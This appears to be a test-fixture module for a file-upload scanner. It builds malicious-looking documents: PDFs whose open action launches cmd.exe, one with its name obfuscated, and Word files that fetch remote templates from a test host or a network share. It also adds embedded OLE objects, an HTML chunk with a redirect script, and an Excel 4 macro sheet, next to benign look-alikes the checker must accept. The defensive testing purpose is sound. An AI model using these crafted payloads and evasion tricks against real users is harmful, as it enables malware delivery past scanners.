import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { filler, makeOldOffice, makeZip, officeParts } from './documents.ts';

/** A file as uploaded, legitimate or crafted to bypass the checks. */
export interface SentFile {
  what: string;
  filename: string;
  bytes: Buffer;
}

const officeTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationOf = (kind: string, target: string, mode = 'External') =>
  `<Relationship Id="r1" Type="${officeTypes}/${kind}" Target="${target}" TargetMode="${mode}"/>`;
const relationsOf = (...lines: string[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`;

/** A PDF that runs an action when it is opened. */
async function makeActivePdf(action: Record<string, string>, useObjectStreams: boolean): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage();
  const { S = '', ...rest } = action;
  const texts = Object.fromEntries(Object.entries(rest).map(([key, text]) => [key, PDFString.of(text)]));
  pdf.catalog.set(
    PDFName.of('OpenAction'),
    pdf.context.register(pdf.context.obj({ Type: 'Action', S, ...texts })),
  );
  return Buffer.from(await pdf.save({ useObjectStreams }));
}

/** Documents that can start a program when they are opened. */
export async function activeFiles(): Promise<SentFile[]> {
  const program = { S: 'Launch', F: 'cmd.exe' };
  const plain = await makeActivePdf(program, false);
  const docx = officeParts('docx');
  const settings = 'word/_rels/settings.xml.rels';
  const remote = (target: string) => ({
    ...docx,
    [settings]: relationsOf(relationOf('attachedTemplate', target)),
  });
  const hidden = relationsOf(relationOf('attachedTemplate', 'https://x.test/t.dotm')).replace(
    'attached',
    '&#97;ttached',
  );
  const macroSheet = '0908100000060500000000000000000000000000850008000000000000010141';
  const files: [string, string, Buffer][] = [
    ['a PDF that starts a program', 'a.pdf', plain],
    [
      'the same with its name in figures',
      'a.pdf',
      Buffer.from(plain.toString('latin1').replace('/Launch', '/L#61unc#68'), 'latin1'),
    ],
    ['the same among packed objects', 'a.pdf', await makeActivePdf(program, true)],
    ['a template from the web', 'a.docx', await makeZip(remote('https://x.test/t.dotm'))],
    ['a template from a shared folder', 'a.docx', await makeZip(remote('file:///\\\\server\\share\\t.dotm'))],
    ['a template from the web, in disguise', 'a.docx', await makeZip({ ...docx, [settings]: hidden })],
    [
      'relations in another alphabet',
      'a.docx',
      await makeZip({ ...docx, [settings]: Buffer.from(hidden, 'utf16le') }),
    ],
    [
      'an object of another program',
      'a.docx',
      await makeZip({ ...docx, 'word/embeddings/oleObject1.bin': filler(300) }),
    ],
    [
      'an object under another name',
      'a.xlsx',
      await makeZip({
        ...officeParts('xlsx'),
        'xl/worksheets/_rels/sheet1.xml.rels': relationsOf(
          relationOf('oleObject', '../media/image1.png', 'Internal'),
        ),
      }),
    ],
    [
      'a web page within a document',
      'a.docx',
      await makeZip({
        ...docx,
        'word/_rels/document.xml.rels': relationsOf(relationOf('aFChunk', 'page.html', 'Internal')),
        'word/page.html': '<script>location = "https://x.test"</script>',
      }),
    ],
    ['a packed file in an old document', 'a.doc', makeOldOffice(['WordDocument', '\u0001Ole10Native'])],
    ['a Workbook that is none', 'a.xls', makeOldOffice(['Workbook'], { contents: {} })],
    ['a WordDocument that is none', 'a.doc', makeOldOffice(['WordDocument'], { contents: {} })],
    [
      'a sheet of Excel 4 macros',
      'a.xls',
      makeOldOffice(['Workbook'], { contents: { Workbook: macroSheet } }),
    ],
  ];
  return files.map(([what, filename, bytes]) => ({ what, filename, bytes }));
}

/** Ordinary documents that resemble active ones and must be accepted. */
export async function honestFiles(): Promise<SentFile[]> {
  const script = { S: 'JavaScript', JS: 'this.getField("total").value = 1' };
  const link = { S: 'URI', URI: 'https://example.com/Launch' };
  const docx = {
    ...officeParts('docx'),
    'word/_rels/document.xml.rels': relationsOf(
      relationOf('hyperlink', 'https://www.irs.gov/'),
      relationOf('image', 'media/image1.png', 'Internal'),
      relationOf('chart', 'charts/chart1.xml', 'Internal'),
    ),
    'word/_rels/settings.xml.rels': relationsOf(
      relationOf('attachedTemplate', 'file:///C:\\Users\\maya\\Templates\\Letter.dotx'),
    ),
    'word/charts/_rels/chart1.xml.rels': relationsOf(
      relationOf('package', '../embeddings/Book1.xlsx', 'Internal'),
    ),
    'word/embeddings/Book1.xlsx': await makeZip(officeParts('xlsx')),
    'word/media/image1.png': filler(300),
  };
  const xlsx = {
    ...officeParts('xlsx'),
    'xl/printerSettings/printerSettings1.bin': filler(200),
    'xl/externalLinks/_rels/externalLink1.xml.rels': relationsOf(
      relationOf('externalLinkPath', 'file:///C:\\Books\\2025.xlsx'),
    ),
  };
  const files: [string, string, Buffer][] = [
    ['a fillable form', 'a.pdf', await makeActivePdf(script, false)],
    ['a fillable form of packed objects', 'a.pdf', await makeActivePdf(script, true)],
    ['a PDF with a link', 'a.pdf', await makeActivePdf(link, false)],
    ['a PDF with a link among packed objects', 'a.pdf', await makeActivePdf(link, true)],
    ['a letter with links, a picture and a chart', 'a.docx', await makeZip(docx)],
    ['a workbook that refers to another', 'a.xlsx', await makeZip(xlsx)],
    ['an old letter', 'a.doc', makeOldOffice(['WordDocument', '1Table', 'ObjectPool'])],
    ['an old workbook', 'a.xls', makeOldOffice(['Workbook'])],
  ];
  return files.map(([what, filename, bytes]) => ({ what, filename, bytes }));
}
